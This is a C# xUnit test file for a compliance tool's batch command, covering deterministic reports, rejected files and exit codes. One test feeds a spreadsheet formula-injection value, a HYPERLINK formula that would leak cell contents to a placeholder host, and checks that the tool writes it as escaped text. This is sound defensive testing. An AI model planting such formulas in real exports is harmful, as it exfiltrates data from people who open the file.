using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using FluentAssertions;
using Xunit;

namespace Compliance.Cli.Tests;

/// <summary>The <c>batch</c> command on the sample batch: 300 generated employers and two broken exports.</summary>
public sealed class BatchCommandTests
{
    [Fact]
    public void Output_is_byte_identical_with_one_thread_and_with_two()
    {
        var one = Directory.CreateTempSubdirectory("batch1-").FullName;
        var two = Directory.CreateTempSubdirectory("batch2-").FullName;
        try
        {
            var first = Cli.Run("batch", Cli.Batch, "--as-of", "2024-06-30", "--out", one, "--parallel", "1");
            var second = Cli.Run("batch", Cli.Batch, "--as-of", "2024-06-30", "--out", two, "--parallel", "2");

            first.Exit.Should().Be(1);
            second.Exit.Should().Be(1);
            var pages = Directory.GetFiles(Path.Combine(one, "employers")).Select(p => Path.GetRelativePath(one, p)).Order(StringComparer.Ordinal).ToArray();
            pages.Should().NotBeEmpty();
            Directory.GetFiles(Path.Combine(two, "employers")).Select(p => Path.GetRelativePath(two, p)).Order(StringComparer.Ordinal).Should().Equal(pages);
            foreach (var file in new[] { "reports.jsonl", "summary.csv", "violations.csv", "rejected.csv", "report.html" }.Concat(pages))
            {
                File.ReadAllBytes(Path.Combine(two, file)).Should().Equal(File.ReadAllBytes(Path.Combine(one, file)), file);
            }
        }
        finally
        {
            Directory.Delete(one, recursive: true);
            Directory.Delete(two, recursive: true);
        }
    }

    [Fact]
    public void Every_employer_is_accounted_for_and_broken_files_are_rejected_with_positions()
    {
        var output = Directory.CreateTempSubdirectory("batch-").FullName;
        try
        {
            var (exit, stdout, stderr) = Cli.Run("batch", Cli.Batch, "--as-of", "2024-06-30", "--out", output);

            exit.Should().Be(1);
            stdout.Should().StartWith("302 files: 300 checked (").And.Contain("2 rejected, 0 not checked");
            stderr.Should().Contain("checked 302 of 302 (100%)");
            File.ReadLines(Path.Combine(output, "reports.jsonl")).Should().HaveCount(300);
            File.ReadLines(Path.Combine(output, "summary.csv")).Should().HaveCount(301);
            var rejected = File.ReadAllLines(Path.Combine(output, "rejected.csv"));
            rejected.Should().HaveCount(3);
            rejected[0].Should().EndWith("source,sheet,row,column,header or path,employer,consequence,problem");
            rejected[1].Should().Be("employer-0301.json,,2,39,$.workers[0].start,,企业退回 employer not checked,'2024-02-30' is not a date that exists: February 2024 has 29 days");
            rejected[2].Should().StartWith("employer-0302.json,");
            var violations = File.ReadAllLines(Path.Combine(output, "violations.csv"));
            violations[0].Should().EndWith("employer,name,rule,severity,document,clause,quote,figures,evidence,remedy");
            violations.Skip(1).Should().Contain(v => v.Contains("jin-rsbf-2022-18.dispatch.ratio", StringComparison.Ordinal));

            var workbook = Path.Combine(output, "report.xlsx");
            MiniExcelLibs.MiniExcel.GetSheetNames(workbook).Should().Equal("summary", "violations", "rejected");
            MiniExcelLibs.MiniExcel.Query(workbook, useHeaderRow: true, sheetName: "summary").Should().HaveCount(300);
            MiniExcelLibs.MiniExcel.Query(workbook, useHeaderRow: true, sheetName: "violations").Should().HaveCount(violations.Length - 1);
            var rejectedRows = MiniExcelLibs.MiniExcel.Query(workbook, useHeaderRow: true, sheetName: "rejected").Cast<IDictionary<string, object>>().ToArray();
            rejectedRows.Should().HaveCount(2);
            rejectedRows[0]["header or path"].Should().Be("$.workers[0].start");

            var page = File.ReadAllText(Path.Combine(output, "report.html"));
            page.Should().Contain("<td>302</td><td>300</td>").And.Contain("employer-0301.json").And.Contain("jin-rsbf-2022-18.dispatch.ratio");
        }
        finally
        {
            Directory.Delete(output, recursive: true);
        }
    }

    [Fact]
    public void Fail_on_sets_the_least_severity_that_fails_a_batch()
    {
        var input = Directory.CreateTempSubdirectory("batch-in-").FullName;
        try
        {
            // The headcount-only sample breaks only major rules.
            File.Copy(Cli.Sample("headcount-only.yaml"), Path.Combine(input, "headcount-only.yaml"));

            Cli.Run("batch", input, "--as-of", "2024-06-30", "--out", Path.Combine(input, "a")).Exit.Should().Be(1);
            Cli.Run("batch", input, "--as-of", "2024-06-30", "--out", Path.Combine(input, "b"), "--fail-on", "critical").Exit.Should().Be(0);
        }
        finally
        {
            Directory.Delete(input, recursive: true);
        }
    }

    [Fact]
    public void Cells_a_spreadsheet_would_take_for_formulas_are_written_as_text()
    {
        var input = Directory.CreateTempSubdirectory("batch-in-").FullName;
        try
        {
            File.WriteAllText(Path.Combine(input, "a.json"), """
                { "enterprise": { "id": "@SUM(A1)", "name": "=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"click\")", "regionCode": "330106", "industryCode": "3670" },
                  "headcount": { "laborContract": 50, "dispatched": 50, "outsourced": 0 } }
                """);

            Cli.Run("batch", input, "--as-of", "2024-06-30", "--out", Path.Combine(input, "out")).Exit.Should().Be(1);

            var summary = File.ReadAllText(Path.Combine(input, "out", "summary.csv"));
            summary.Should().Contain("'@SUM(A1)").And.Contain("\"'=HYPERLINK(").And.NotContain(",=HYPERLINK").And.NotContain(",@SUM");
            File.ReadAllText(Path.Combine(input, "out", "violations.csv")).Should().Contain("'@SUM(A1)");

            // A cell's text is in its sheet or, for a column that repeats few texts, in the shared strings.
            using var workbook = System.IO.Compression.ZipFile.OpenRead(Path.Combine(input, "out", "report.xlsx"));
            using var sheet = new StreamReader(workbook.GetEntry("xl/worksheets/sheet1.xml")!.Open());
            using var shared = new StreamReader(workbook.GetEntry("xl/sharedStrings.xml")!.Open());
            var cells = sheet.ReadToEnd();
            cells.Should().NotContain("<f>").And.NotContain("<x:f>");
            (cells + shared.ReadToEnd()).Should().Contain("<t>'@SUM(A1)</t>").And.Contain("<t>'=HYPERLINK(").And.NotContain("<t>@SUM").And.NotContain("<t>=HYPERLINK");
        }
        finally
        {
            Directory.Delete(input, recursive: true);
        }
    }

    [Fact]
    public void The_same_batch_gives_the_same_bytes_workbook_included()
    {
        var output = Directory.CreateTempSubdirectory("batch-twice-").FullName;
        try
        {
            var first = Path.Combine(output, "first");
            var second = Path.Combine(output, "second");
            Cli.Run("batch", Cli.Sample("."), "--as-of", "2024-06-30", "--out", first).Exit.Should().Be(1);
            Cli.Run("batch", Cli.Sample("."), "--as-of", "2024-06-30", "--out", second, "--parallel", "1").Exit.Should().Be(1);

            foreach (var file in Directory.GetFiles(first, "*", SearchOption.AllDirectories))
            {
                var twin = Path.Combine(second, Path.GetRelativePath(first, file));
                File.ReadAllBytes(twin).Should().Equal(File.ReadAllBytes(file), Path.GetRelativePath(first, file));
            }
        }
        finally
        {
            Directory.Delete(output, recursive: true);
        }
    }

    [Fact]
    public void Missing_folder_exits_2()
    {
        var (exit, _, stderr) = Cli.Run("batch", Path.Combine(Cli.Batch, "nope"), "--out", Path.GetTempPath());

        exit.Should().Be(2);
        stderr.Should().Contain("does not exist");
    }
}
